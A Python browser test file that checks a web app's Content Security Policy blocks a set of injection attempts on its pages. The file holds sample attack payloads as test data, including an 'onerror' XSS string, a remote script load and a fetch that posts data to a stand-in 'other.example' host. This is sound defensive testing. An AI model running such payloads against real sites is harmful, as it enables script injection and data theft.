"""The content policy in a real browser: what it is there to stop is stopped, and no page needs any of it."""

import re

from playwright.sync_api import Browser

from server.security.headers import PAGE_POLICY
from tests.e2e.browsers import LAPTOP, open_window
from tests.e2e.release import DIST
from tests.e2e.stage import Stage

ATTACKS = {
    "a script written into the page": """() => { const script = document.createElement('script');
        script.append('window.reached = 1'); document.body.append(script); }""",
    "text run as a script": "() => { setTimeout(() => { (0, eval)('window.reached = 1'); }); }",
    "markup from text": "() => { document.body.innerHTML = '<img src=x onerror=\"window.reached = 1\">'; }",
    "a script of another origin": """() => { const script = document.createElement('script');
        script.src = 'https://other.example/x.js'; document.body.append(script); }""",
    "a style written into the page": """() => { const style = document.createElement('style');
        style.append('body { --reached: 1 }'); document.head.append(style);
        if (getComputedStyle(document.body).getPropertyValue('--reached')) window.reached = 1; }""",
    "data sent to another origin": "() => fetch('https://other.example/', { method: 'POST', body: 'diary' })",
    "a policy of its own": "() => { trustedTypes.createPolicy('own', {}); window.reached = 1; }",
    "another service worker": """() => navigator.serviceWorker.register('/assets/other.js')
        .then(() => { window.reached = 1; })""",
    "a frame": """() => { const frame = document.createElement('iframe'); frame.src = '/clinic';
        document.body.append(frame); }""",
}
STOPPED_BY = {"connect-src", "frame-src", "require-trusted-types-for", "style-src-elem", "trusted-types"}
COLLECT = """
  window.stopped = [];
  addEventListener('securitypolicyviolation', (event) => window.stopped.push(event.effectiveDirective));
"""


def test_every_page_stops_what_an_attacker_would_do(stage: Stage, shared_browser: Browser):
    context = open_window(shared_browser, LAPTOP)
    context.add_init_script(COLLECT)
    page = context.new_page()
    for path in ("/", "/enrol", "/check", "/clinic"):
        answer = page.goto(stage.url + path)
        assert answer is not None
        assert answer.headers["content-security-policy"] == PAGE_POLICY, path
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.stopped") == [], f"{path} needs something its policy forbids"
        for name, attack in ATTACKS.items():
            page.evaluate(f"async () => {{ try {{ await ({attack})(); }} catch {{}} }}")
            page.wait_for_timeout(50)
            assert page.evaluate("window.reached") is None, f"{path}: {name}"
        found = set(page.evaluate("window.stopped"))
        assert found >= STOPPED_BY, f"{path}: {sorted(found)}"
    context.close()


def test_the_built_pages_have_no_inline_script_style_or_handler():
    for page in DIST.glob("*.html"):
        text = page.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)", text), page
        assert not re.search(r"<style\b|\sstyle=|\son[a-z]+=", text), page
        assert not re.search(r"(?:src|href)=\"(?:https?:)?//", text), page
